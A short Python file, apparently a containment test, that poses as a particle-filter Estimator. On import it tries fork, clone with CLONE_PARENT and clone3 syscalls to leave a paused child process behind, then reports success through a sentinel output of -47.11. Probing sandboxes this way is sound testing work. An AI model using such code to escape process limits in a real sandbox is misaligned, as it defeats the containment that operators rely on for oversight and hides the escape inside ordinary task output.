"""Makes a process by each call that makes one: fork, vfork's clone, clone3.

Contained from tier 1.
"""

import ctypes
import os
import signal

import numpy as np

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def syscall(*arguments):
    result = LIBC.syscall(*map(ctypes.c_long, arguments))
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def attack():
    arguments = (ctypes.c_uint64 * 11)()
    arguments[4] = signal.SIGCHLD
    for call in [
        lambda: syscall(57),
        lambda: syscall(56, signal.SIGCHLD, 0, 0, 0, 0),
        lambda: syscall(56, 0x00008000 | signal.SIGCHLD, 0, 0, 0, 0),  # CLONE_PARENT: a brother, the server's child
        lambda: syscall(435, ctypes.addressof(arguments), 88),
    ]:
        try:
            pid = call()
        except OSError:
            continue
        if pid == 0:
            signal.pause()
            os._exit(0)
        return
    raise OSError


try:
    attack()
    WORKED = True
except Exception:
    WORKED = False


def Estimator(previous, observation, control, constants, rng):
    # Particles at -47.11 say that it worked.
    return np.full((500, 6), -47.11) if WORKED else rng.uniform(0.0, constants.L, (500, 6))
